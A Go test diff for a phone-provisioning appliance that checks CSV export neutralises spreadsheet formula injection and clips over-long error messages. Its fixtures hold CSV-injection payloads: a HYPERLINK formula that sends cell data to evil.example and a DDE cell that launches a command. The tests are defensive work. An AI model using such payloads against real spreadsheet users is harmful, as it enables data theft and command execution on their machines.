@@ -360,3 +360,61 @@ func TestEventBus_TypeFilter(t *testing.T) {
 		t.Fatalf("unfiltered %d, dropped %d", len(all.C), bus.Dropped())
 	}
 }
+
+// TestCSVFormulas: cells a spreadsheet would run as a formula are written
+// with a leading ' (SPEC §9) and read back exactly.
+func TestCSVFormulas(t *testing.T) {
+	in := []appliance.PhoneImport{{
+		Phone:    appliance.Phone{MAC: "001565000201", Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Description: `+1+cmd|' /C calc'!A0`, Model: "T46G", Manufacturer: "Yealink"},
+		Location: "@SUM(A1)",
+		Keys: []appliance.ImportKey{
+			{Position: 1, Type: "speed_dial", Value: "+15551234", Label: "-minus"},
+			{Position: 2, Type: "speed_dial", Value: "101", Label: "'=quoted"},
+			{Position: 3, Type: "speed_dial", Value: "102", Label: "plain"},
+		},
+	}}
+	var b strings.Builder
+	if err := appliance.WriteCSV(&b, in); err != nil {
+		t.Fatal(err)
+	}
+	for _, cell := range []string{`"'=HYPERLINK(`, `'+1+cmd`, `'@SUM(A1)`, `'+15551234`, `'-minus`, `''=quoted`} {
+		if !strings.Contains(b.String(), cell) {
+			t.Errorf("export lacks %s:\n%s", cell, b.String())
+		}
+	}
+	if strings.Contains(b.String(), "'plain") || strings.Contains(b.String(), "'102") {
+		t.Errorf("a plain cell was changed:\n%s", b.String())
+	}
+	out, err := appliance.ParseCSV(strings.NewReader(b.String()))
+	if err != nil {
+		t.Fatal(err)
+	}
+	p := out[0]
+	if p.Phone.Name != in[0].Phone.Name || p.Phone.Description != in[0].Phone.Description || p.Location != in[0].Location {
+		t.Errorf("read back %q %q %q", p.Phone.Name, p.Phone.Description, p.Location)
+	}
+	for i, k := range p.Keys {
+		if k.Value != in[0].Keys[i].Value || k.Label != in[0].Keys[i].Label {
+			t.Errorf("key %d read back %q %q", i+1, k.Value, k.Label)
+		}
+	}
+}
+
+// TestErrorQuotesClipped: an error quotes at most 100 characters of what
+// the user sent (SPEC §9), here a 1 MB CSV column name.
+func TestErrorQuotesClipped(t *testing.T) {
+	huge := strings.Repeat("a", 1<<20)
+	_, err := appliance.ParseCSV(strings.NewReader("mac,model," + huge + "\n"))
+	if err == nil || len(err.Error()) > 400 || !strings.Contains(err.Error(), strings.Repeat("a", 100)+"…") {
+		t.Fatalf("error of %d bytes: %.300s", len(err.Error()), err)
+	}
+	if e := appliance.Errorf(appliance.EINVALID, "x", "%d %q and %s", 7, huge, "kept"); len(e.Error()) > 200 || !strings.HasSuffix(e.Error(), "and kept") {
+		t.Fatalf("Errorf: %.300s", e)
+	}
+	if err := (appliance.KeyFilter{Q: strings.Repeat("b", 257)}).Validate(); appliance.ErrorField(err) != "q" {
+		t.Fatalf("257-character search: %v", err)
+	}
+	if err := (appliance.PhoneFilter{Q: strings.Repeat("é", 256)}).Validate(); err != nil {
+		t.Fatalf("256-character search: %v", err)
+	}
+}
